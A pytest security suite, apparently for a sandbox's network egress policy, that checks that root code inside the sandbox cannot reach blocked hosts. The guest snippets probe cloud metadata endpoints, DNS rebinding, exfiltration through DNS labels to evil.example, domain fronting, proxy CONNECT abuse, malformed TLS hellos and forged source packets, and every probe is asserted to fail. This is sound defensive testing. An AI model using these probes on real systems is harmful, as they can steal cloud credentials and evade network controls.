"""Threat table 2.1: ways to a host that is not allowed. Nothing may leave the host (G1)."""

import pytest

from skerry.policy.verdict import Reason
from tests.harness.origins.network import Internet, PacketRecorder
from tests.security.egress.conftest import Create, Guest

pytestmark = [pytest.mark.needs_root, pytest.mark.timeout(180)]

METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
FAILURES = {"ConnectionRefusedError", "ConnectionResetError", ""}


def test_an_empty_list_lets_nothing_out(create: Create, net: Internet, uplink: PacketRecorder) -> None:
    """R1 to R4: every protocol, as root inside."""
    address = net.origins["api.test"][0]
    with create(allow_net=[]) as guest:
        found = guest(
            """
result = {}
for port in (22, 25, 53, 80, 443, 3128, 8443, 20000, 20001, 9000):
    result[f"tcp {port}"] = attempt(tcp, address, port, b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
for port in (123, 443, 500, 5353, 51820):
    result[f"udp {port}"] = attempt(udp, address, port)
for number in (1, 2, 47, 50, 132, 136):
    def raw():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as sock:
            sock.sendto(b"x" * 64, (address, 0))
            return "sent"
    result[f"protocol {number}"] = attempt(raw)
result["six"] = attempt(tcp, "2001:db8::1", 443)
""",
            address=address,
        )
    for name, outcome in found.items():
        if name.startswith("tcp"):
            value = outcome["value"]
            assert value in FAILURES or value.startswith("HTTP/1.1 403"), (name, outcome)
        if name.startswith("udp"):
            assert outcome["value"] == "ConnectionRefusedError", (name, outcome)
    assert found["six"]["value"] != "connected"
    assert uplink.packets() == []
    assert net.recorded() == []


@pytest.mark.parametrize("address", METADATA)
def test_metadata_is_never_reached(create: Create, uplink: PacketRecorder, address: str) -> None:
    """R11, whatever the policy: no list at all is the widest."""
    with create() as guest:
        outcome = guest(
            'result = attempt(tcp, address, 80, b"GET / HTTP/1.1\\r\\nHost: metadata\\r\\n\\r\\n")',
            address=address,
        )
    assert outcome["value"] in FAILURES or outcome["value"].startswith("HTTP/1.1 403"), outcome
    assert uplink.packets() == []


@pytest.mark.parametrize(
    "name", ["rebind.example", "loopback.example", "private.example", "mapped6.example", "nat64.example"]
)
def test_a_public_name_with_a_private_address_is_refused(create: Create, net: Internet, name: str) -> None:
    """R10: names that resolve into private ranges, which no internal network covers."""
    with create() as guest:
        outcome = guest(
            'result = attempt(tcp, name, 80, f"GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())',
            name=name,
        )
        assert any(reason in outcome["value"] for reason in (Reason.PRIVATE_ADDRESS, f'"{Reason.SELF}"')), (
            outcome
        )
    assert net.recorded("request") == []


def test_names_are_answered_by_policy_alone(bound: Guest, net: Internet, uplink: PacketRecorder) -> None:
    """R8, G9, G10: no question of the sandbox ever causes one of ours."""
    found = bound(
        """
result = {}
result["allowed"] = dns("api.test")
result["again"] = dns("api.test", server="8.8.8.8")
result["tcp"] = dns("api.test", over_tcp=True, server="1.1.1.1")
result["denied"] = dns("secret-bytes-in-a-label.evil.example")
result["long"] = dns("a" * 60 + "." + "b" * 60 + ".api.test")
for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 255, 65280):
    result[f"type {kind}"] = dns("api.test", kind)
"""
    )
    assert found["allowed"]["rcode"] == 0
    assert found["allowed"]["address"].startswith(("198.18.", "198.19."))
    assert found["again"] == found["tcp"] == found["allowed"]
    assert found["denied"]["rcode"] == 3
    assert found["long"]["rcode"] == 3
    for name, answer in found.items():
        if name.startswith("type"):
            assert (answer["rcode"], answer["answers"]) == (0, 0), (name, answer)
    assert net.recorded("dns") == []
    assert uplink.packets() == []


def test_odd_dns_messages_are_refused(bound: Guest, net: Internet) -> None:
    found = bound(
        """
def ask(query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(query, ("198.18.0.1", 53))
        return sock.recv(65536)[3] & 15
queries = {
    "two questions": dns_query("api.test", questions=2),
    "class": dns_query("api.test", cls=3),
    "update": dns_query("api.test", opcode=5),
    "cut": dns_query("api.test")[:-3],
    "pointer": dns_query("api.test")[:12] + b"\\xc0\\x0c" + b"\\0\\1\\0\\1",
    "empty": b"",
    "zone transfer": dns_query("api.test", 252),
}
result = {name: attempt(ask, query)["value"] for name, query in queries.items()}
"""
    )
    assert all(outcome in (1, 4, 5, "TimeoutError") for outcome in found.values()), found
    assert net.recorded("dns") == []


def test_the_server_name_decides_not_the_address(bound: Guest, net: Internet) -> None:
    """R13: another name's address, or any address at all, with an allowed server name and the reverse."""
    found = bound(
        """
other = dns("other.test")["address"]
ask = b"GET /echo HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"
result = {
    "sni of api at other": attempt(tls, "api.test", ask, "api.test", 443, 5, other),
    "sni of a stranger": attempt(tls, "other.test", ask, "evil.example", 443, 5, other),
    "private literal": attempt(tls, "api.test", ask, "api.test", 443, 5, "192.168.7.7"),
    "public literal, stranger": attempt(tls, "evil.example", ask, "evil.example", 443, 5, "203.0.113.5"),
}
""",
    )
    for name, outcome in found.items():
        assert "Error" in str(outcome["value"]) or "403" in outcome["value"][:12], (name, outcome)
        assert outcome["s"] < 5, (name, outcome)
    assert net.recorded("request") == []


@pytest.mark.parametrize(
    "line",
    [
        "Host: other.test",
        "Host: api.test:444",
        "Host: api.test.",
        "Host: api.test@other.test",
        "Host: other.test, api.test",
    ],
)
def test_fronting_is_seen(bound: Guest, net: Internet, line: str) -> None:
    """R14: all names of a request must be the one that was checked."""
    net.forget()
    answer = bound(
        'result = tls("api.test", f"GET /echo HTTP/1.1\\r\\n{line}\\r\\n\\r\\n".encode())', line=line
    )
    if line == "Host: api.test.":
        assert answer[9:12] in ("200", "421", "400")
    else:
        assert answer[9:12] in ("421", "400"), answer
        assert net.recorded("request") == []


def test_server_names_that_are_no_names(bound: Guest, net: Internet) -> None:
    """R17, R18."""
    net.forget()
    found = bound(
        """
good = hello("api.test")
address = dns("api.test")["address"]
# The same length each, so that every length field stays right.
names = [b"api\\0test", b"api test", b"api_tes\\xff", b"127.0.0.", b"2130706.", b".api.tes", b"api..tst"]
hellos = {name.hex(): good.replace(b"api.test", name) for name in names}
hellos["no hello"] = b"\\x16\\x03\\x01\\x40\\x01" + b"x" * 100
hellos["sslv2"] = b"\\x80\\x2e\\x01\\x00\\x02" + b"\\0" * 41
result = {name: attempt(tcp, address, 443, data, 8.0) for name, data in hellos.items()}
"""
    )
    for name, outcome in found.items():
        assert outcome["value"] in FAILURES or outcome["value"].startswith("\x15"), (name, outcome)
    assert net.recorded("hello") == []


def test_a_hello_in_pieces_is_read_whole(bound: Guest, net: Internet) -> None:
    """R17, G13: byte by byte, and over two TLS records."""
    net.forget()
    found = bound(
        """
data = hello("other.test")
address = dns("other.test")["address"]
def in_pieces(pieces):
    with socket.create_connection((address, 443), timeout=5) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces:
            connection.sendall(piece)
            time.sleep(0.002)
        return connection.recv(1).hex()
body = data[5:]
two = [data[:3] + struct.pack(">H", 60) + body[:60], data[:3] + struct.pack(">H", len(body) - 60) + body[60:]]
result = {
    "bytes": attempt(in_pieces, [data[i:i+1] for i in range(len(data))])["value"],
    "records": attempt(in_pieces, two)["value"],
}
"""
    )
    assert found == {"bytes": "16", "records": "16"}
    assert [one["sni"] for one in net.recorded("hello")] == ["other.test", "other.test"]


def test_mail_ports_stay_closed(bound: Guest, net: Internet) -> None:
    """R20: no port named means any but these."""
    found = bound('result = [attempt(tcp, "other.test", port) for port in (25, 465, 587)]')
    assert all(one["value"] in FAILURES for one in found), found
    assert net.recorded("raw") == []


def test_the_proxy_decides_the_same(bound: Guest, net: Internet) -> None:
    """R21, G8, G63."""
    net.forget()
    found = bound(
        """
def through(line, host, then=b""):
    with socket.create_connection(("198.18.0.1", 3128), timeout=5) as connection:
        connection.sendall(f"{line} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
        answer = connection.recv(65536).decode("latin-1")
        if answer.startswith("HTTP/1.1 200") and then:
            connection.sendall(then)
            answer += connection.recv(65536).decode("latin-1")
        return answer
plain = b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"
api = "api.test:443"
result = {
    "denied": attempt(through, "CONNECT evil.example:443", "evil.example:443"),
    "literal": attempt(through, "CONNECT 169.254.169.254:80", "169.254.169.254:80"),
    "plain inside": attempt(through, f"CONNECT {api}", api, plain),
    "other name inside": attempt(through, f"CONNECT {api}", api, hello("other.test")),
    "absolute denied": attempt(through, "GET http://evil.example/", "evil.example"),
    "absolute https": attempt(through, "GET https://other.test/", "other.test"),
    "absolute": attempt(through, "GET http://other.test/echo", "other.test"),
}
"""
    )
    assert found["absolute"]["value"].startswith("HTTP/1.1 200"), found["absolute"]
    for name in ("denied", "literal", "absolute denied"):
        assert found[name]["value"].startswith("HTTP/1.1 403"), (name, found[name])
    assert not found["absolute https"]["value"].startswith("HTTP/1.1 200")
    hosts = [one["host"] for one in net.recorded("request")]
    assert hosts == ["other.test"], hosts
    assert net.recorded("hello") == []


def test_server_first_protocols_pass_on_unbound_names_only(bound: Guest) -> None:
    found = bound(
        """
result = {
    "unbound": attempt(tcp, "other.test", 2222),
    "bound": attempt(tcp, "api.test", 2222),
}
"""
    )
    assert found["unbound"]["value"] == "SSH-2.0-test\r\n"
    assert found["bound"]["value"] in FAILURES, found


def test_rules_cannot_be_changed_from_inside(create: Create, net: Internet, uplink: PacketRecorder) -> None:
    """R6: root inside changes addresses and routes and forges sources."""
    with create(allow_net=[]) as guest:
        guest(
            """
import subprocess
commands = [
    "ip addr add 10.201.0.9/16 dev eth0",
    "ip route replace default dev eth0",
    "ip link set eth0 address 02:00:00:00:00:09",
]
result = [subprocess.run(command.split(), capture_output=True).returncode for command in commands]
def forged(source):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        ends = socket.inet_aton(source) + socket.inet_aton(address)
        head = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + ends
        sock.sendto(head + struct.pack(">HHIIBBHHH", 1234, 443, 1, 0, 0x50, 2, 1024, 0, 0), (address, 0))
for source in ("10.201.0.1", "10.201.0.3", "10.201.0.5", "127.0.0.1", "8.8.8.8"):
    attempt(forged, source)
attempt(tcp, address, 443)
""",
            address=net.origins["api.test"][0],
        )
    assert uplink.packets() == []
    assert net.recorded() == []


def test_sandboxes_do_not_reach_each_other(create: Create) -> None:
    """R12: not by any address that the other has, nor by the gateway's ports."""
    with create() as one, create() as two:
        address = one(
            """
import fcntl, subprocess
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    answer = fcntl.ioctl(sock.fileno(), 0x8915, struct.pack("256s", b"eth0"))  # SIOCGIFADDR, netdevice(7)
result = socket.inet_ntoa(answer[20:24])
server = [sys.executable, "-m", "http.server", "8000"]
subprocess.Popen(server, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
deadline = time.monotonic() + 20
while "Error" in attempt(tcp, "127.0.0.1", 8000, b"", 1, False)["value"]:
    assert time.monotonic() < deadline
    time.sleep(0.05)
"""
        )
        outcome = two(
            """
ask = b"GET / HTTP/1.0\\r\\n\\r\\n"
result = [attempt(tcp, address, port, ask) for port in (8000, 20000, 20001)]
""",
            address=address,
        )
    for one_outcome in outcome:
        assert "200 OK" not in one_outcome["value"], outcome
